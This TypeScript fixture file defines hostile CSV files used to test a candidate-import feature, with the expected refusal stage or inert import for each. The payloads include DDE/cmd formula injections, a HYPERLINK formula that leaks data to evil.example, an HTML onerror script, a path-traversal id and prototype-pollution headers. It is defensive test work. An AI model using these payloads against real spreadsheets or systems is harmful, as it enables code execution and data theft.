/**
 * Hostile candidate CSVs for the secretariat's CSV import, each with the handling it must get:
 * refused at a stage with a reason a person can act on, or imported with the text kept inert.
 * Small ones are written to tests/fixtures/hostile/csv/ by write-csv-corpus.ts there; large ones are built at test time.
 */

/** Where the import stops: decoding the bytes, reading the CSV, checking the rows; or it imports. */
export type CsvStage = 'decode' | 'parse' | 'empty' | 'rows' | 'imported';

export interface HostileCsv {
  /** File name under tests/fixtures/hostile/csv/. */
  name: string;
  attack: string;
  /** Built at test time when too large to commit. */
  large?: true;
  bytes: () => Uint8Array;
  stage: CsvStage;
  /** What the refusal must say (or, for an import, a check of what came in). */
  message?: RegExp;
  /** For an import: the candidates' names exactly, in order. */
  names?: readonly string[];
  /** For an import: how many candidates come in. */
  count?: number;
}

const utf8 = (text: string) => new TextEncoder().encode(text);
const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...utf8(p)] : p)));
const rowsOf = (count: number) => `Name,Nationality\n${Array.from({ length: count }, (_, i) => `Candidate ${i},Kenya\n`).join('')}`;

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  '+1+cmd|/C notepad!A0',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+9)*cmd|/C calc!A0',
  `=DDE("cmd";"/C calc";"!A0")`,
];

export const HOSTILE_CSVS: readonly HostileCsv[] = [
  // Formula injection: imported as inert text, exactly as written (Panelscore never evaluates a cell).
  ...FORMULAS.map((formula, i) => ({
    name: `formula-${i + 1}.csv`,
    attack: `a spreadsheet formula as a candidate's name: ${formula}`,
    bytes: () => utf8(`Name,Nationality\n"${formula.replaceAll('"', '""')}",Kenya\n`),
    stage: 'imported' as const,
    names: [formula],
  })),
  { name: 'formula-in-field.csv', attack: 'a DDE formula in an extra field', bytes: () => utf8(`Name,Notes\nAmina Diallo,"=cmd|' /C calc'!A0"\n`), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'formula-tab-prefix.csv', attack: 'a formula behind a tab, which some sanitisers miss', bytes: () => utf8('Name,Notes\n"\t=1+1",x\n'), stage: 'imported', names: ['=1+1'] },
  { name: 'html-in-name.csv', attack: 'markup in a name, for a renderer that would inject HTML', bytes: () => utf8('Name\n<img src=x onerror=alert(1)>\n'), stage: 'imported', names: ['<img src=x onerror=alert(1)>'] },
  { name: 'bidi-override-name.csv', attack: 'a right-to-left override in a name (shown as text, never as markup)', bytes: () => utf8('Name\nAmina \u202Egnp.exe\n'), stage: 'imported', names: ['Amina \u202Egnp.exe'] },
  // Encodings.
  { name: 'latin1.csv', attack: 'Latin-1 text (Excel\u2019s "CSV" on Windows)', bytes: () => bytes('Name\nJos', [0xe9], ' Garc', [0xed], 'a\n'), stage: 'decode', message: /is not UTF-8 text: save it .*“CSV UTF-8”/ },
  { name: 'overlong-utf8.csv', attack: 'an overlong UTF-8 encoding of "/"', bytes: () => bytes('Name\n..', [0xc0, 0xaf], 'etc\n'), stage: 'decode', message: /is not UTF-8 text/ },
  { name: 'utf8-surrogate.csv', attack: 'a lone surrogate encoded in UTF-8 (CESU)', bytes: () => bytes('Name\nAmina', [0xed, 0xa0, 0x80], '\n'), stage: 'decode', message: /is not UTF-8 text/ },
  { name: 'utf8-above-10ffff.csv', attack: 'a code point above U+10FFFF', bytes: () => bytes('Name\nAmina', [0xf4, 0x90, 0x80, 0x80], '\n'), stage: 'decode', message: /is not UTF-8 text/ },
  { name: 'utf8-truncated.csv', attack: 'a multi-byte character cut off at the end of the file', bytes: () => bytes('Name\nJos', [0xc3]), stage: 'decode', message: /is not UTF-8 text/ },
  { name: 'utf16le-bom.csv', attack: 'UTF-16 ("Unicode text" from Excel)', bytes: () => new Uint8Array([0xff, 0xfe, ...[...'Name\nAmina\n'].flatMap((c) => [c.charCodeAt(0), 0])]), stage: 'decode', message: /is not UTF-8 text/ },
  { name: 'utf8-bom.csv', attack: 'a UTF-8 byte order mark before the header', bytes: () => bytes([0xef, 0xbb, 0xbf], 'Name,Nationality\nAmina Diallo,Senegal\n'), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'double-bom.csv', attack: 'two byte order marks', bytes: () => bytes([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], 'Name\nAmina Diallo\n'), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'bom-only.csv', attack: 'a byte order mark and nothing else', bytes: () => bytes([0xef, 0xbb, 0xbf]), stage: 'empty', message: /The file is empty/ },
  { name: 'empty.csv', attack: 'an empty file', bytes: () => new Uint8Array(0), stage: 'empty', message: /The file is empty/ },
  { name: 'blank-lines.csv', attack: 'only line breaks', bytes: () => utf8('\r\n\n\r\n'), stage: 'empty', message: /The file is empty/ },
  // Binary content.
  { name: 'nul-in-name.csv', attack: 'a NUL inside a name (C string truncation)', bytes: () => bytes('Name\nAmina', [0], 'Diallo\n'), stage: 'parse', message: /Line 2 holds a NUL character.*CSV UTF-8/ },
  { name: 'nul-in-quoted.csv', attack: 'a NUL inside a quoted field', bytes: () => bytes('Name\n"Amina', [0], '"\n'), stage: 'parse', message: /Line 2 holds a NUL character/ },
  { name: 'xlsx-renamed.csv', attack: 'a spreadsheet (zip) renamed .csv', bytes: () => bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]), stage: 'parse', message: /Line 1 holds a NUL character.*\.xlsx/ },
  // Quoting.
  { name: 'unclosed-quote.csv', attack: 'a quoted field never closed (swallows the rest of the file)', bytes: () => utf8('Name,Notes\nAmina,"never closed\nBen,ok\n'), stage: 'parse', message: /Line 2: a quoted field is never closed/ },
  { name: 'stray-quote.csv', attack: 'a quote in the middle of an unquoted field', bytes: () => utf8('Name\nAmina "The Boss" Diallo\n'), stage: 'parse', message: /Line 2: a quote mark in the middle of an unquoted field/ },
  { name: 'text-after-quote.csv', attack: 'text after a closing quote', bytes: () => utf8('Name\n"Amina" Diallo\n'), stage: 'parse', message: /Line 2: text after the closing quote/ },
  { name: 'quote-only.csv', attack: 'a single quote mark', bytes: () => utf8('"'), stage: 'parse', message: /Line 1: a quoted field is never closed/ },
  { name: 'escaped-quotes.csv', attack: 'doubled quotes, delimiters and a line break inside quotes', bytes: () => utf8('Name,Notes\n"Amina ""Ami"" Diallo","a, b\nc"\n'), stage: 'imported', names: ['Amina "Ami" Diallo'] },
  // Line endings and delimiters.
  { name: 'cr-only.csv', attack: 'old Mac line endings (CR only)', bytes: () => utf8('Name\rAmina Diallo\rBen Okafor\r'), stage: 'imported', names: ['Amina Diallo', 'Ben Okafor'] },
  { name: 'mixed-line-endings.csv', attack: 'CRLF, LF and CR mixed', bytes: () => utf8('Name\r\nAmina Diallo\nBen Okafor\rChen Wei'), stage: 'imported', names: ['Amina Diallo', 'Ben Okafor', 'Chen Wei'] },
  { name: 'semicolons.csv', attack: 'semicolon delimiters (European spreadsheet settings)', bytes: () => utf8('Name;Nationality\nAmina Diallo;Senegal\n'), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'tabs.csv', attack: 'tab delimiters', bytes: () => utf8('Name\tNationality\nAmina Diallo\tSenegal\n'), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'line-separator-in-name.csv', attack: 'U+2028 (a JavaScript line terminator) inside a name', bytes: () => utf8('Name\nAmina\u2028Diallo\n'), stage: 'imported', names: ['Amina\u2028Diallo'] },
  // Rows that do not fit.
  { name: 'missing-column.csv', attack: 'a row with a column missing', bytes: () => utf8('Name,Nationality\nAmina Diallo\n'), stage: 'rows', message: /has 1 column where the header has 2/ },
  { name: 'extra-column.csv', attack: 'a row with an extra delimiter', bytes: () => utf8('Name,Nationality\nAmina Diallo,Senegal,extra\n'), stage: 'rows', message: /has 3 columns where the header has 2/ },
  { name: 'no-name-column.csv', attack: 'no column a name can come from', bytes: () => utf8('Surname,Given\nDiallo,Amina\n'), stage: 'rows', message: /No column is mapped to the candidate’s name/ },
  { name: 'blank-name.csv', attack: 'a row whose name is only spaces', bytes: () => utf8('Name,Nationality\n   ,Kenya\n'), stage: 'rows', message: /has no name/ },
  { name: 'delimiters-only.csv', attack: 'a row of delimiters only', bytes: () => utf8('Name,Nationality\n,\n'), stage: 'rows', message: /has no name/ },
  { name: 'id-traversal.csv', attack: 'an id that is a path (../../etc/passwd)', bytes: () => utf8('ID,Name\n../../etc/passwd,Amina Diallo\n'), stage: 'rows', message: /“\.\.\/\.\.\/etc\/passwd”, which is not an identifier/ },
  { name: 'id-65-chars.csv', attack: 'an id one character too long', bytes: () => utf8(`ID,Name\n${'a'.repeat(65)},Amina Diallo\n`), stage: 'rows', message: /which is not an identifier/ },
  { name: 'id-duplicate.csv', attack: 'two candidates with one id', bytes: () => utf8('ID,Name\nc1,Amina Diallo\nc1,Ben Okafor\n'), stage: 'rows', message: /“c1”, which another candidate already has/ },
  { name: 'proto-header.csv', attack: 'a column named __proto__ (prototype pollution)', bytes: () => utf8('Name,__proto__,constructor\nAmina Diallo,"{""polluted"":true}",x\n'), stage: 'imported', names: ['Amina Diallo'] },
  { name: 'duplicate-header.csv', attack: 'two columns with one name (one value would be lost)', bytes: () => utf8('Name,Nationality,Nationality\nAmina Diallo,Senegal,France\n'), stage: 'rows', message: /Two columns are named “Nationality”/ },
  // Size.
  { name: 'name-20001-chars.csv', attack: 'a name one character over the format’s limit', bytes: () => utf8(`Name\n${'A'.repeat(20_001)}\n`), stage: 'rows', message: /more than 20000 characters in the column “Name”/ },
  { name: 'huge-line-5mb.csv', large: true, attack: 'a 5 MB line of delimiters', bytes: () => utf8(`Name\n${','.repeat(5_000_000)}\n`), stage: 'parse', message: /Line 2 has more than 200 columns/ },
  { name: 'huge-field-2mb.csv', large: true, attack: 'a 2 MB quoted field', bytes: () => utf8(`Name,Notes\nAmina,"${'x'.repeat(2_000_000)}"\n`), stage: 'rows', message: /more than 20000 characters in the column “Notes”/ },
  { name: 'header-1000-columns.csv', attack: '1,000 columns', bytes: () => utf8(`Name,${Array.from({ length: 999 }, (_, i) => `c${i}`).join(',')}\n`), stage: 'parse', message: /Line 1 has more than 200 columns/ },
  { name: 'rows-100k.csv', large: true, attack: '100,000 candidates', bytes: () => utf8(rowsOf(100_000)), stage: 'parse', message: /more than 10000 data rows/ },
  { name: 'rows-10001.csv', large: true, attack: 'one row over the 10,000 candidates an exercise holds', bytes: () => utf8(rowsOf(10_001)), stage: 'parse', message: /more than 10000 data rows/ },
  { name: 'rows-10000-no-ids.csv', large: true, attack: '10,000 names no id can be made from (each needs a generated one)', bytes: () => utf8(`Name\n${Array.from({ length: 10_000 }, (_, i) => `\u738B${'\u4E00'.repeat(i % 7)}${i}`.replace(/\d/g, (d) => String.fromCharCode(0x4e00 + Number(d)))).join('\n')}\n`), stage: 'imported', count: 10_000 },
];
